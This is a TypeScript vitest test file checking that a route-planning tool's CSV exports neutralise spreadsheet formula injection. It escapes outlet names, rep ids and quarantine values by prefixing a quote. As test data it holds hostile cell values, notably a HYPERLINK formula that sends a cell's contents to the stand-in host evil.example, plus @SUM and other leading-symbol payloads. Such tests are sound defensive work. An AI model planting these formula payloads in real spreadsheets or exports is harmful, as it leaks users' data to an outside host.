import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../src/io/artifacts/csv.js';
import { renderQuarantineCsv } from '../../src/io/artifacts/renderQuarantineCsv.js';
import { renderRepDaySheet } from '../../src/io/artifacts/renderRepDaySheet.js';
import { renderSegmentsCsv } from '../../src/io/artifacts/renderSegmentsCsv.js';
import { buildFixturePlan } from '../fixtures/plans/buildFixturePlan.js';

/** Issue 10 item 7: published CSVs must not hand a spreadsheet a formula to execute. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const AT_SUM = '@SUM(1)';

function hostilePlan() {
  const plan = buildFixturePlan();
  const c1 = plan.reps.find((r) => r.id === 'C1');
  const [first, second] = (c1?.days ?? [])[0]?.stops ?? [];
  const named = (id: string | undefined, name: string, lon?: number) => {
    const outlet = plan.outlets.find((o) => o.id === id);
    if (!outlet) throw new Error(`fixture has no outlet ${id}`);
    outlet.name = name;
    if (lon !== undefined) outlet.lon = lon;
  };
  named(first?.outletId, HYPERLINK, -73.985428);
  named(second?.outletId, AT_SUM);
  // A rep id reaches segments.csv (rep_id).
  for (const outlet of plan.outlets) if (outlet.repId === 'C2') outlet.repId = '+C2';
  plan.quarantine.push(
    {
      file: 'outlets.csv',
      line: 9,
      id: '-cmd',
      field: 'name',
      value: '\t=1+1',
      reason: 'test',
      action: 'row-rejected',
    },
    {
      file: 'outlets.csv',
      line: 10,
      id: 'X10',
      field: 'lon',
      value: '-116.4',
      reason: 'test',
      action: 'row-rejected',
    },
  );
  return { plan, c1: c1 as NonNullable<typeof c1>, first: first?.outletId, second: second?.outletId };
}

describe('CSV formula injection (OWASP)', () => {
  it('prefixes text cells that start with = + - @ tab or CR, and leaves numbers alone', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1 call me')).toBe("'+1 call me");
    expect(csvCell('-x')).toBe("'-x");
    expect(csvCell(AT_SUM)).toBe("'@SUM(1)");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(-116.4)).toBe('-116.4');
    expect(csvCell('-116.4')).toBe('-116.4');
    expect(csvCell('+3')).toBe('+3');
  });

  it('segments.csv neutralises outlet names and rep ids', () => {
    const { plan, first, second } = hostilePlan();
    const rows = parse<Record<string, string>>(renderSegmentsCsv(plan), { columns: true });
    expect(rows.find((r) => r.id === first)?.name).toBe(`'${HYPERLINK}`);
    expect(rows.find((r) => r.id === second)?.name).toBe(`'${AT_SUM}`);
    expect(rows.filter((r) => r.rep_id === "'+C2").length).toBeGreaterThan(0);
    expect(rows.every((r) => !/^[=+\-@\t\r]/.test(r.name ?? '') && !/^[=+\-@]/.test(r.rep_id ?? ''))).toBe(
      true,
    );
  });

  it('reps/<id>.csv neutralises names; a negative longitude stays a number', () => {
    const { plan, c1, first, second } = hostilePlan();
    const text = renderRepDaySheet(plan, c1);
    const rows = parse<Record<string, string>>(text, { columns: true });
    const hyperlinkRow = rows.find((r) => r.outlet_id === first);
    expect(hyperlinkRow).toMatchObject({ name: `'${HYPERLINK}`, lon: '-73.985428' });
    expect(rows.find((r) => r.outlet_id === second)?.name).toBe(`'${AT_SUM}`);
    expect(text).toContain(',-73.985428,');
  });

  it('quarantine.csv neutralises ids and values, not a negative number', () => {
    const { plan } = hostilePlan();
    const rows = parse<Record<string, string>>(renderQuarantineCsv(plan), { columns: true });
    expect(rows.find((r) => r.line === '9')).toMatchObject({ id: "'-cmd", value: "'\t=1+1" });
    expect(rows.find((r) => r.line === '10')).toMatchObject({ id: 'X10', value: '-116.4' });
  });
});
